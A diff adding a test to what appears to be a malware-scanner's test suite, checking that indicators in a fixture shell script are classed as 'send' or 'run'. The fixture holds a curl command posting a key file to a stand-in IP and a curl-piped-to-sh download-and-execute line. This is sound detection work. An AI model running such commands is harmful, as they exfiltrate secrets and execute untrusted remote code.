@@ -352,6 +352,42 @@ describe('addresses', () => {
     expect(extraction.iocs).toMatchObject([{ value: 'https://nobody.test/x', use: 'fetch', rules: [] }]);
   });
 
+  it('two pages of one host are told apart by what they stand in', () => {
+    const shell = pack([
+      textFile(
+        'run.sh',
+        'curl -d @key http://203.0.113.9/in\ncurl http://203.0.113.9/p | sh\nU=http://203.0.113.9/c\n',
+      ),
+    ]);
+    const known = ['/in', '/p', '/c'].map((path) => {
+      const value = `http://203.0.113.9${path}`;
+      return { ...url('http://203.0.113.9/p', 'raw-ip', ''), value, place: at(shell, 'run.sh', value) };
+    });
+    const flow = (place: string, to: 'network' | 'shell', chain: string): Fact => ({
+      kind: 'flow',
+      place: at(shell, 'run.sh', place),
+      from: [],
+      to,
+      position: 'body',
+      destination: 'raw-ip',
+      host: '203.0.113.9',
+      hops: 1,
+      trigger: '',
+      crossFile: false,
+      sources: [],
+      sink: undefined,
+      chain: [at(shell, 'run.sh', chain)],
+    });
+    const sent = flow('curl -d @key http://203.0.113.9/in', 'network', '@key');
+    const run = flow('sh\n', 'shell', 'curl http://203.0.113.9/p');
+    const { extraction } = report({ pkg: shell, facts: [...known, sent, run] });
+    expect(extraction.iocs.map(({ value, use }) => [value, use])).toEqual([
+      ['http://203.0.113.9/c', 'send'],
+      ['http://203.0.113.9/in', 'send'],
+      ['http://203.0.113.9/p', 'run'],
+    ]);
+  });
+
   it('list what a finding rests on, with the rule that says so', () => {
     const { extraction } = report({
       pkg: page,
